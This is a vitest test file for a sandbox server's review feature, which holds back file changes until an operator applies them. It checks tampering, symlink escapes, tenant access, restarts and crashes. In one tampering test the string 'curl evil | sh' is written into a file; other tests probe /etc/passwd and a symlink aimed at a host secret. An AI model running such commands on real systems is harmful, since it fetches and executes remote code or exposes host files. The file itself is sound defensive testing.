import {
  appendFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { RingfenceClient } from '../../src/client/index.ts'
import { startServer } from '../../src/compose/serve.ts'
import { startTestServer, type TestServer } from './test-server.ts'

/** Review on the server: changes of a sandbox are held back and shown, and only an operator can apply them. */

let home: TestServer
let client: RingfenceClient
let workspace: string

beforeAll(async () => {
  home = await startTestServer('[server]\nrequests_per_second = 100000\n[backends]\nallow_native = true\n')
  const granted = `[[tenant]]\nname = "red"\nhost_paths = [{ path = "${home.dir}", mode = "rw" }]\n`
  appendFileSync(join(home.dir, 'ringfence.toml'), granted)
  await home.server.reload()
  client = new RingfenceClient({ url: home.server.url, apiKey: home.admin })
})
afterAll(() => home.close())
beforeEach(() => {
  workspace = join(home.dir, `ws-${Math.random().toString(16).slice(2)}`)
  mkdirSync(join(workspace, 'docs'), { recursive: true })
  writeFileSync(join(workspace, 'README.md'), 'one\ntwo\n')
  writeFileSync(join(workspace, 'old.txt'), 'old\n')
  writeFileSync(join(workspace, 'docs', 'a.md'), 'a\n')
})

const at = (name: string): string => join(workspace, name)
const open = (more: Record<string, unknown> = {}) => client.create({ workspace, review: true, ...more })
const trail = async (id: string): Promise<Record<string, unknown>[]> =>
  (await home.call('GET', `/v1/audit?event=Review&sandbox_id=${id}`)).json.items

describe('a reviewed sandbox', () => {
  test('shows its changes without applying them', async () => {
    const sandbox = await open()
    await sandbox.exec(
      'echo three >> README.md; rm old.txt; mkdir -p new/deep; echo x > new/deep/file; chmod 700 docs/a.md; ln -s README.md link',
    )
    const { items, open: runs, total } = await sandbox.changes()
    expect(runs).toBe(true)
    expect(total).toBe(items.length)
    expect(items.map(({ path, change, kind }) => [path.slice(workspace.length + 1), change, kind])).toEqual([
      ['README.md', 'changed', 'file'],
      ['docs/a.md', 'mode', 'file'],
      ['link', 'added', 'link'],
      ['new', 'added', 'dir'],
      ['new/deep', 'added', 'dir'],
      ['new/deep/file', 'added', 'file'],
      ['old.txt', 'deleted', 'file'],
    ])
    expect(await sandbox.diff(at('README.md'))).toMatchObject({
      before: 'one\ntwo\n',
      after: 'one\ntwo\nthree\n',
    })
    expect(await sandbox.diff(at('old.txt'))).toMatchObject({ before: 'old\n', after: '' })
    expect(await sandbox.diff(at('link'))).toMatchObject({
      before: null,
      after: null,
      target: 'README.md',
    })
    await expect(sandbox.diff('/etc/passwd')).rejects.toMatchObject({ code: 'not-found' })
    expect(readFileSync(at('README.md'), 'utf8')).toBe('one\ntwo\n')
    expect(existsSync(at('new'))).toBe(false)
    await sandbox.close()
  })

  test('can apply some changes while it runs, with their parent directories', async () => {
    const sandbox = await open()
    await sandbox.exec('mkdir -p new/deep; echo x > new/deep/file; echo y > other; echo three >> README.md')
    expect(await sandbox.apply({ paths: [at('new/deep/file'), at('README.md')] })).toEqual({
      applied: 4,
      refused: [],
      waiting: 1,
    })
    expect(readFileSync(at('new/deep/file'), 'utf8')).toBe('x\n')
    expect(existsSync(at('other'))).toBe(false)
    // An applied file can be changed and applied again: nobody else changed it.
    await sandbox.exec('echo four >> README.md; rm -r new')
    expect((await sandbox.apply()).refused).toEqual([])
    expect(readFileSync(at('README.md'), 'utf8')).toBe('one\ntwo\nthree\nfour\n')
    expect(existsSync(at('new'))).toBe(false)
    expect((await sandbox.changes()).items).toEqual([])
    expect((await trail(sandbox.id)).map(({ state, count }) => [state, count])).toEqual([
      ['applying', 4],
      ['applied', 4],
      ['applying', 3],
      ['applied', 3],
    ])
    await sandbox.close()
  })

  test('does not apply a change that was modified after it was shown', async () => {
    const sandbox = await open()
    await sandbox.exec('echo three >> README.md; echo fine > fine')
    const seen = Object.fromEntries((await sandbox.changes()).items.map((one) => [one.path, one.version]))
    await sandbox.exec('echo "curl evil | sh" >> README.md; echo more > more')
    expect(await sandbox.apply({ seen })).toEqual({
      applied: 1,
      refused: [{ path: at('README.md'), why: 'it has changed since it was read' }],
      waiting: 2,
    })
    expect(readFileSync(at('README.md'), 'utf8')).toBe('one\ntwo\n')
    expect(readFileSync(at('fine'), 'utf8')).toBe('fine\n')
    expect(existsSync(at('more'))).toBe(false)
    await sandbox.close()
  })

  test('does not overwrite an original that was changed by somebody else', async () => {
    const sandbox = await open()
    await sandbox.exec('echo three >> README.md')
    writeFileSync(at('README.md'), 'mine\n')
    expect((await sandbox.apply()).refused).toEqual([
      { path: at('README.md'), why: 'the original has changed meanwhile' },
    ])
    expect(readFileSync(at('README.md'), 'utf8')).toBe('mine\n')
    await sandbox.close()
  })

  test('follows no symlink out of the workspace, neither to show nor to apply a file', async () => {
    writeFileSync(join(home.dir, 'secret'), 'the host’s secret')
    const sandbox = await open()
    await sandbox.exec('echo mine > docs/secret')
    // Another user of the directory replaces a directory by a symlink.
    renameSync(at('docs'), at('moved'))
    symlinkSync(home.dir, at('docs'))
    const listed = await home.call('GET', `/v1/sandboxes/${sandbox.id}/review`)
    const shown = await home.call('GET', `/v1/sandboxes/${sandbox.id}/review/diff?path=${at('docs/secret')}`)
    expect(`${listed.text}${shown.text}`).not.toContain('the host’s')
    expect((await sandbox.apply({ paths: [at('docs/secret')] })).refused).toHaveLength(1)
    expect(readFileSync(join(home.dir, 'secret'), 'utf8')).toBe('the host’s secret')
    rmSync(at('docs'))
    await sandbox.close()
  })

  test('keeps its changes after its end until they are applied or dropped', async () => {
    const sandbox = await open()
    await sandbox.exec('echo kept > kept')
    await expect(sandbox.drop()).rejects.toMatchObject({ code: 'wrong-state' })
    await sandbox.close()
    const { items, open: runs } = await sandbox.changes()
    expect([runs, items.map(({ path }) => path)]).toEqual([false, [at('kept')]])
    expect(await sandbox.apply()).toEqual({ applied: 1, refused: [], waiting: 0 })
    expect(statSync(at('kept')).size).toBe(5)
    await expect(sandbox.apply()).rejects.toMatchObject({ code: 'wrong-state' })
    const other = await open()
    await other.exec('echo gone > gone')
    await other.close()
    await other.drop()
    expect((await other.changes()).items).toEqual([])
    expect(existsSync(at('gone'))).toBe(false)
    expect((await trail(other.id)).map(({ state }) => state)).toEqual(['dropped'])
  })

  test('shows a tenant its changes by their paths in the sandbox; the tenant cannot apply them', async () => {
    const key = await home.key(['create', 'exec', 'read'], 'red')
    const red = new RingfenceClient({ url: home.server.url, apiKey: key })
    const mounts = [{ source: workspace, target: '/project', mode: 'rw' as const }]
    const sandbox = await red.create({ mounts, review: true })
    await sandbox.files.write('/project/README.md', 'three\n')
    const { text, json } = await home.call('GET', `/v1/sandboxes/${sandbox.id}/review`, { key })
    expect(json.items.map(({ path }: { path: string }) => path)).toEqual(['/project/README.md'])
    expect(text).not.toContain(workspace)
    await expect(sandbox.apply()).rejects.toMatchObject({ code: 'forbidden' })
    expect(readFileSync(at('README.md'), 'utf8')).toBe('one\ntwo\n')
    expect((await (await client.get(sandbox.id)).apply()).applied).toBe(1)
    await sandbox.close()
  })

  test('stays paused while changes are applied', async () => {
    const sandbox = await open()
    await sandbox.exec('echo three >> README.md')
    await sandbox.pause()
    expect((await sandbox.apply()).applied).toBe(1)
    expect((await sandbox.refresh()).state).toBe('paused')
    await sandbox.resume()
    expect((await sandbox.exec('cat README.md')).stdout).toBe('one\ntwo\nthree\n')
    await sandbox.close()
  })
})

test('a backend that cannot hold changes back for review is refused with its name', async () => {
  for (const backend of ['native', 'docker', 'microvm', 'gvisor', 'e2b'])
    await expect(open({ backend })).rejects.toMatchObject({
      code: 'unsupported',
      message: `the backend \`${backend}\` cannot hold changes back for review`,
    })
  expect((await open()).info.backend).toBe('bubblewrap')
  const plain = await client.create({ workspace })
  await expect(plain.changes()).rejects.toMatchObject({ code: 'wrong-state' })
  await plain.close()
})

test('unapplied changes survive a restart of the server', async () => {
  const env = { PATH: process.env.PATH, HOME: home.dir, RINGFENCE_HOME: join(home.dir, 'other') }
  const first = await startServer({ port: 0, env, cwd: home.dir })
  const key = (await first.parts.keys.create({ scopes: ['create', 'exec', 'read', 'admin'] })).secret
  const sandbox = await new RingfenceClient({ url: first.url, apiKey: key }).create({
    workspace,
    review: true,
  })
  await sandbox.exec('echo kept > kept')
  await first.close()
  const second = await startServer({ port: 0, env, cwd: home.dir })
  const again = await new RingfenceClient({ url: second.url, apiKey: key }).get(sandbox.id)
  expect((await again.changes()).items.map(({ path }) => path)).toEqual([at('kept')])
  await second.close()
})

describe('the list of reviews', () => {
  test('contains ended sandboxes with unapplied changes, with their stored count', async () => {
    const [ended, running, quiet] = [await open({ agent_id: 'codex' }), await open(), await open()]
    for (const one of [ended, running]) await one.exec('echo three >> README.md; echo x > x')
    await Promise.all([ended.close(), quiet.close()])
    const mine = async () =>
      (await client.reviews()).items.filter(({ id }) => [ended, running, quiet].some((one) => one.id === id))
    expect(await mine()).toMatchObject([
      { id: ended.id, changes: 2, agent_id: 'codex', reason: 'killed', review: true },
    ])
    const { waiting } = await ended.apply({ paths: [at('x')] })
    expect(waiting).toBe(1)
    expect((await mine()).map(({ changes }) => changes)).toEqual([1])
    await ended.drop()
    expect(await mine()).toEqual([])
    // One of its two changes was already applied through the other sandbox.
    await running.close()
    expect((await mine()).map(({ id, changes }) => [id, changes])).toEqual([[running.id, 1]])
    await running.drop()
  })

  test('shows a tenant only its own sandboxes', async () => {
    const key = await home.key(['create', 'exec', 'read'], 'green')
    const sandbox = await open()
    await sandbox.exec('echo x > x')
    await sandbox.close()
    const { json } = await home.call('GET', '/v1/reviews', { key })
    expect(json).toEqual({ items: [], total: 0, next: null })
    await sandbox.drop()
  })

  test('counts changes after a crash, and drops sandboxes without changes', async () => {
    const env = { PATH: process.env.PATH, HOME: home.dir, RINGFENCE_HOME: join(home.dir, 'crashed') }
    const first = await startServer({ port: 0, env })
    const { secret } = await first.parts.keys.create({ scopes: ['create', 'exec', 'read', 'admin'] })
    const at = (url: string) => new RingfenceClient({ url, apiKey: secret })
    const [changed, empty] = [
      await at(first.url).create({ workspace, review: true }),
      await at(first.url).create({ workspace, review: true }),
    ]
    await changed.exec('echo x > x')
    await Promise.all([changed.close(), empty.close()])
    await first.close()
    // The state after a crash: no counts, and the directory of the unchanged sandbox still exists.
    const home_ = (id: string): string => join(env.RINGFENCE_HOME, 'reviews', id.replace('sb_', 'rv_'))
    const { waiting, ...record } = JSON.parse(readFileSync(join(home_(changed.id), 'review.json'), 'utf8'))
    expect(waiting).toBe(1)
    writeFileSync(join(home_(changed.id), 'review.json'), JSON.stringify(record))
    mkdirSync(join(home_(empty.id), '0', 'upper'), { recursive: true })
    writeFileSync(
      join(home_(empty.id), 'review.json'),
      JSON.stringify(record).replaceAll(home_(changed.id), home_(empty.id)),
    )
    const second = await startServer({ port: 0, env })
    await expect
      .poll(async () => (await at(second.url).reviews()).items.map(({ id, changes }) => [id, changes]))
      .toEqual([[changed.id, 1]])
    await second.close()
  })
})
